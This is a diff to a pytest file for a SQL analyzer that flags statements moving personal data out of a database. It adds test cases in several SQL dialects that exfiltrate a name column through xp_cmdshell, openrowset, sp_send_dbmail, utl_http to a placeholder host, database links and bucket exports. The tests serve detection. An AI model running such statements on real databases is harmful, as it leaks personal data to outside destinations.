@@ -85,6 +85,46 @@ def test_never_harmless(engine: str, text: str) -> None:
     assert {"crm.people.name"} <= set(found.pii_columns)
 
 
+WAYS = [
+    ("mssql", "exec xp_cmdshell 'bcp \"select name from crm.people\" queryout c:\\x.txt -T'", "program", Destination.PROGRAM),
+    ("mssql", "insert into openrowset('SQLNCLI', 'srv'; 'u'; 'p', 'select a from t') select name from crm.people", "dblink",
+     Destination.NETWORK),
+    ("mssql", "exec msdb.dbo.sp_send_dbmail @query = 'select name from crm.people'", "notification", Destination.NETWORK),
+    ("oracle", "select utl_http.request('http://x.example/' || name) from crm.people", "dblink", Destination.NETWORK),
+    ("oracle", "insert into far@link select name from crm.people", "dblink", Destination.NETWORK),
+    ("oracle", "begin for r in (select name from crm.people) loop utl_file.put_line(f, r.name); end loop; end;", "server_file",
+     Destination.SERVER_FILE),
+    ("oracle", "select dbms_xmlgen.getxml('select name from crm.people') from dual", "query_to_xml", Destination.CLIENT),
+    ("snowflake", "copy into @st/x from (select name from crm.people)", "server_file", Destination.SERVER_FILE),
+    ("snowflake", "copy into 's3://b/x' from crm.people storage_integration = i", "server_file", Destination.SERVER_FILE),
+    ("bigquery", "export data options(uri='gs://b/x*') as select name from crm.people", "server_file", Destination.SERVER_FILE),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("engine", "text", "word", "where"), WAYS, ids=[text[:40] for _, text, _, _ in WAYS])
+def test_ways_out_of_their_own(engine: str, text: str, word: str, where: Destination) -> None:
+    made = analyze(text, engine)
+    found = facts("s", made, SCHEMA, statement=text, dialect=engine)
+    assert word in made.techniques
+    assert made.destination is where
+    assert found.mode != "none", made
+    assert "crm.people.name" in found.pii_columns
+
+
+@pytest.mark.parametrize(
+    ("engine", "text"),
+    [
+        ("mssql", "select 'xp_cmdshell', total from crm.orders -- openrowset"),
+        ("oracle", "select total from crm.orders where total <> 1 /* utl_http a@b */"),
+        ("snowflake", "copy into crm.people from @st/x"),
+        ("snowflake", "copy into @st/x from crm.orders"),
+        ("bigquery", "export data options(uri='gs://b/x*') as select total from crm.orders"),
+    ],
+)
+def test_what_only_looks_like_them(engine: str, text: str) -> None:
+    assert facts("s", analyze(text, engine), SCHEMA, statement=text, dialect=engine).mode == "none"
+
+
 @pytest.mark.parametrize("engine", ENGINES)
 def test_tables_that_only_the_log_names(engine: str) -> None:
     """Through a procedure, a view, or in a text that does not tell."""
